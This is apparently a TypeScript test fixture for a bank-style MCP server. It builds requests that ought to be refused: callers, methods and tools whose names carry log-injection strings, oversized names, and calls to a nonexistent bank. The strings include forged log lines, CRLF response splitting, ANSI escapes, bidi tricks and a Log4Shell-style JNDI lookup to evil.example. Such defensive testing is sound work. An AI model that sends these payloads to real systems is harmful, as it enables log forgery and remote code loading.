/** The part of the table of bad requests that is about names: of what is not there, and such as would lie in a log. */
import { bankPath, bankUrl } from '@bankhouse/core';
import { type BadRequest, basic, calling, FORBIDDEN, JSON_HEADERS, rowsOf } from './bad-rows.ts';
import { type BadRequestContext, changed } from './tokens.ts';

/** What a line of a log must not be made of. */
export const LYING_NAMES: readonly (readonly [what: string, text: string])[] = [
  ['a line of the log', 'x\n{"level":30,"outcome":"answered","msg":"call"}'],
  ['a line with a return', 'x\r\nHTTP/1.1 200 OK\r\n\r\n'],
  ['the end of a text and another field', 'x","outcome":"answered","y":"'],
  ['colours and a cleared screen', '\u001b[2J\u001b[1;32mok\u001b[0m\u0007'],
  ['a text that is turned around', 'eton_\u202eteled'],
  ['a separator of lines', 'x\u2028y\u2029z\u0085'],
  ['a NUL', 'x\u0000y'],
  ['half a character', 'x\ud800y'],
  ['what nobody sees', 'list\u200b_\u2060no\ufefftes\u{e0041}'],
  ['what some logs carry out', `\${jndi:ldap://evil.example/x}`],
];

const UNKNOWN_BANK = 'no-such-bank-anywhere';
const WRITE = calling('delete_note');

export async function badNames(context: BadRequestContext): Promise<BadRequest[]> {
  const row = rowsOf(context, `Bearer ${await changed(context, {})}`);
  const lies = await Promise.all(
    LYING_NAMES.map(async ([what, text]): Promise<BadRequest[]> => {
      const authorization = `Bearer ${await changed(context, { sub: text, client_id: text, jti: text, scope: text })}`;
      const message = JSON.stringify({ jsonrpc: '2.0', id: 1, method: text });
      return [
        row(`a caller whose name is ${what}`, { headers: { ...JSON_HEADERS, authorization }, ...FORBIDDEN }),
        row(`a method whose name is ${what}, beside a writing tool`, { body: `[${message},${WRITE}]`, ...FORBIDDEN }),
        row(`a tool whose name is ${what}, beside a writing one`, {
          body: `[${calling(text)},${WRITE}]`,
          ...FORBIDDEN,
        }),
      ];
    }),
  );
  const long = 'n'.repeat(100_000);
  return [
    ...lies.flat(),
    row('G3: fifty tools with long names, one of which writes', {
      body: `[${[...Array(9).fill(calling(long)), WRITE].join(',')}]`,
      ...FORBIDDEN,
    }),
    ...(await unknownBank(context)),
  ];
}

/** Of a bank that is not there nothing can be asked, whatever is asked: with a token for it, all answers are one. */
async function unknownBank(context: BadRequestContext): Promise<BadRequest[]> {
  const aud = bankUrl(context.frontDoor, UNKNOWN_BANK);
  const authorization = `Bearer ${await changed(context, { aud, scope: 'mcp:read mcp:write' })}`;
  const older = { ...JSON_HEADERS, authorization };
  const modern = { ...older, 'mcp-protocol-version': '2026-07-28' };
  const asked: [name: string, change: Partial<BadRequest>][] = [
    ['its tools', {}],
    ['its tools, 2026-07-28', { headers: { ...modern, 'mcp-method': 'tools/list' } }],
    ['to write', { body: WRITE }],
    [
      'to write, 2026-07-28',
      { headers: { ...modern, 'mcp-method': 'tools/call', 'mcp-name': 'delete_note' }, body: WRITE },
    ],
    ['for a tool that nobody knows', { body: calling('get_stuff.delete_all') }],
    ['for nothing that can be read', { body: '{' }],
    ['for changes', { method: 'GET', body: '' }],
    ['to end', { method: 'DELETE', body: '' }],
  ];
  return asked.map(([name, change]) => ({
    ...basic(`a bank that is not there, asked ${name}`, bankPath(UNKNOWN_BANK)),
    headers: older,
    status: 403,
    code: 'bank_unavailable',
    ...change,
  }));
}
